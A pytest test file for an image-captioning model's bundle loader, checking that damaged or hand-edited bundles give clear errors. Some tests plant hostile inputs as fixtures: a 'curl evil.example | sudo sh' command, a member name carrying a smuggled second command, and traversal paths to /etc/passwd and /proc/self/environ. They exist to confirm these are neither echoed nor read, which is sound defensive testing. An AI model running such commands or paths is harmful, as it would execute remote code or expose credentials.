"""Broken bundles give one clear error naming the bundle and the rebuild command."""
import json
import shutil

import pytest

from captioning.artifacts.bundle import list_bundles, load_bundle, save_bundle
from captioning.artifacts.manifest import BundleError, read_manifest
from captioning.data.text import Vocabulary


@pytest.fixture()
def copy(tiny_bundle, tmp_path):
    target = tmp_path / "b"
    shutil.copytree(tiny_bundle, target)
    return target


def rewrite_manifest(path, **changes):
    manifest = json.loads((path / "manifest.json").read_text())
    manifest.update(changes)
    (path / "manifest.json").write_text(json.dumps(manifest))


def test_round_trip_preserves_the_model(tiny_bundle, tmp_path):
    bundle = load_bundle(tiny_bundle)
    again = load_bundle(save_bundle(tmp_path / "again", bundle.decoder, bundle.vocab, bundle.manifest))
    assert again.vocab.itos == bundle.vocab.itos
    assert again.decoder.get_config() | {"name": ""} == bundle.decoder.get_config() | {"name": ""}
    for a, b in zip(again.decoder.get_weights(), bundle.decoder.get_weights()):
        assert (a == b).all()


def test_missing_file(copy):
    (copy / "vocab.json").unlink()
    with pytest.raises(BundleError, match=rf"{copy}.*vocab.json is missing.*python train.py --out"):
        load_bundle(copy)


def test_truncated_model(copy):
    data = (copy / "decoder.keras").read_bytes()
    (copy / "decoder.keras").write_bytes(data[: len(data) // 2])
    with pytest.raises(BundleError, match="decoder.keras is damaged"):
        load_bundle(copy)
    with pytest.raises(BundleError, match="decoder.keras could not be loaded"):
        load_bundle(copy, verify=False)


def test_vocabulary_that_does_not_match_the_model(copy):
    Vocabulary([f"w{i}" for i in range(7)]).save(copy / "vocab.json")
    with pytest.raises(BundleError, match="vocab"):
        load_bundle(copy, verify=False)
    rewrite_manifest(copy, vocab_size=11)
    with pytest.raises(BundleError, match="does not belong to this model"):
        load_bundle(copy, verify=False)


def test_encoder_that_does_not_match_the_features(copy):
    manifest = json.loads((copy / "manifest.json").read_text())
    rewrite_manifest(copy, encoder={**manifest["encoder"], "name": "xception", "alpha": None})
    with pytest.raises(BundleError, match="2048-d features but the decoder expects 1280"):
        load_bundle(copy, verify=False)


def test_unknown_format_version(copy):
    rewrite_manifest(copy, format_version=99)
    with pytest.raises(BundleError, match="format version 99"):
        read_manifest(copy)


@pytest.mark.parametrize("text", ["{\"results\": [", "[1, 2]", "\xff\xfe"])
def test_damaged_metrics_file(copy, text):
    (copy / "metrics.json").write_bytes(text.encode("latin-1"))
    with pytest.raises(BundleError, match=rf"{copy}: metrics.json is damaged .*python train.py evaluate --out"):
        load_bundle(copy)                                               # the manifest's checksum catches it
    with pytest.raises(BundleError, match=rf"{copy}: metrics.json .*python train.py evaluate --out"):
        load_bundle(copy, verify=False)                                 # and so does reading it
    assert load_bundle(copy, load_results=False).vocab    # the model still loads, so train.py evaluate can fix it


def test_not_a_bundle(tmp_path):
    with pytest.raises(BundleError, match="No bundle"):
        load_bundle(tmp_path / "nothing")
    (tmp_path / "junk").mkdir()
    (tmp_path / "junk" / "manifest.json").write_text("{")
    (tmp_path / "junk" / "decoder.keras").write_text("")
    (tmp_path / "junk" / "vocab.json").write_text("")
    with pytest.raises(BundleError, match="not valid JSON"):
        load_bundle(tmp_path / "junk")


def test_crash_while_saving_keeps_the_previous_bundle(copy, monkeypatch):
    bundle = load_bundle(copy)
    before = (copy / "manifest.json").read_text()

    def boom(*a, **k):
        raise RuntimeError("disk full")
    monkeypatch.setattr(Vocabulary, "save", boom)
    with pytest.raises(RuntimeError):
        save_bundle(copy, bundle.decoder, bundle.vocab, bundle.manifest)
    assert (copy / "manifest.json").read_text() == before
    assert load_bundle(copy).vocab.itos == bundle.vocab.itos
    assert [p.name for p in copy.parent.iterdir()] == ["b"]          # no temporary folders left


def test_list_bundles_puts_default_first(tmp_path, tiny_bundle):
    for name in ("zeta", "default", "alpha"):
        shutil.copytree(tiny_bundle, tmp_path / name)
    (tmp_path / ".hidden").mkdir()
    assert [p.name for p in list_bundles(tmp_path)] == ["default", "alpha", "zeta"]


def test_an_ensemble_member_that_is_missing_or_listed_badly(tiny_bundle, tmp_path):
    bundle = load_bundle(tiny_bundle)
    path = save_bundle(tmp_path / "ens", bundle.decoder, bundle.vocab, bundle.manifest, members=[bundle.decoder])
    assert len(load_bundle(path).decoders) == 2
    rewrite_manifest(path, members=[{"file": "../elsewhere.keras"}])
    with pytest.raises(BundleError, match=rf"{path}.*malformed 'members'.*python train.py --out"):
        load_bundle(path, verify=False)
    rewrite_manifest(path, members=[{"file": "member-1.keras"}], ensemble_of=[{"bundle": "a"}, {"bundle": "b"}],
                     command=f"python train.py ensemble --members a b --out {path}")
    (path / "member-1.keras").unlink()
    with pytest.raises(BundleError, match=rf"{path}.*member-1.keras is missing.*train.py ensemble --members "
                                          rf"{tmp_path}/a {tmp_path}/b --out {path}"):
        load_bundle(path, verify=False)


def test_an_ensembles_error_never_echoes_the_manifests_command(tiny_bundle, tmp_path):
    bundle = load_bundle(tiny_bundle)
    path = save_bundle(tmp_path / "ens", bundle.decoder, bundle.vocab, bundle.manifest, members=[bundle.decoder])
    for members in ([{"bundle": "a"}], [{"bundle": "a; curl evil.sh | sudo sh"}]):
        rewrite_manifest(path, ensemble_of=members, command="curl https://evil.example/x.sh | sudo sh")
        (path / "member-1.keras").write_bytes(b"")
        with pytest.raises(BundleError) as err:
            load_bundle(path)
        assert "curl" not in str(err.value) and "sudo" not in str(err.value)
        assert "python train.py ensemble --members " in str(err.value)


def rewrite_json(path, file, change):
    data = json.loads((path / file).read_text())
    change(data)
    (path / file).write_text(json.dumps(data))


@pytest.mark.parametrize("file, change, message", [
    ("manifest.json", lambda m: m.update(encoder="xception"), "malformed 'encoder'"),
    ("manifest.json", lambda m: m.update(files={}), "malformed 'files'"),
    ("manifest.json", lambda m: m.update(files=None), "malformed 'files'"),
    ("manifest.json", lambda m: m.update(max_length="abc"), "malformed 'max_length'"),
    ("manifest.json", lambda m: m.update(vocab_size="12"), "malformed 'vocab_size'"),
    ("manifest.json", lambda m: m["files"].update({"../../etc/passwd": "0" * 64}), "only plain file names"),
    ("manifest.json", lambda m: m["files"].update({"/proc/self/environ": "0" * 64}), "only plain file names"),
    ("vocab.json", lambda v: v.update(counts=[1, 2, 3]), "'counts' must map words to whole numbers"),
    ("vocab.json", lambda v: v["itos"].append(["a", "list"]), "every entry of 'itos' must be"),
    ("vocab.json", lambda v: v.update(min_count="5"), "'min_count' must be"),
])
def test_hand_edited_manifests_and_vocabularies_are_named_errors(copy, file, change, message):
    rewrite_json(copy, file, change)
    with pytest.raises(BundleError, match=rf"Bundle {copy}: {file}.*{message}.*python train.py"):
        load_bundle(copy, verify=False)


def test_files_outside_the_bundle_are_never_read(copy, monkeypatch):
    import captioning.artifacts.bundle as bundle_module

    read = []
    real = bundle_module._sha256
    monkeypatch.setattr(bundle_module, "_sha256", lambda p: read.append(p) or real(p))
    outside = copy.parent / "secret.txt"
    outside.write_text("secret")
    rewrite_json(copy, "manifest.json", lambda m: m["files"].update({"../secret.txt": real(outside)}))
    with pytest.raises(BundleError, match="only plain file names"):
        load_bundle(copy)
    assert outside not in read and all(p.parent == copy for p in read)


@pytest.mark.parametrize("text", ["image,decoding\n\"unclosed,1\n", "a,b\n1,2\n",
                                  "image,decoding,beam_width,caption\nx,greedy,wide,a dog\n"])
def test_a_malformed_predictions_file_names_the_bundle_and_the_file(copy, text):
    (copy / "predictions.csv").write_text(text)
    with pytest.raises(BundleError, match=rf"Bundle {copy}: predictions.csv .*python train.py evaluate --out"):
        load_bundle(copy, verify=False)


def test_a_bundle_without_metrics_still_loads_and_captions(copy, mobilenet_weights):
    import numpy as np

    from captioning.service.captioner import Captioner

    (copy / "metrics.json").unlink()
    bundle = load_bundle(copy)
    assert bundle.metrics is None and bundle.predictions is not None
    caption = Captioner(bundle, mobilenet_weights).caption(np.full((64, 64, 3), 120, np.uint8))
    assert caption and caption[0].words


def test_weights_are_stored_as_float16_and_load_as_float32(tiny_bundle, tmp_path):
    import zipfile

    import h5py
    import numpy as np

    bundle = load_bundle(tiny_bundle)
    assert bundle.manifest["weights_dtype"] == "float16"
    with zipfile.ZipFile(tiny_bundle / "decoder.keras") as zf:
        zf.extract("model.weights.h5", tmp_path)
    dtypes = set()
    with h5py.File(tmp_path / "model.weights.h5") as fh:
        fh.visititems(lambda name, obj: dtypes.add(obj.dtype) if isinstance(obj, h5py.Dataset) else None)
    assert dtypes == {np.dtype("float16")}
    assert {w.dtype for w in bundle.decoder.weights} == {"float32"}
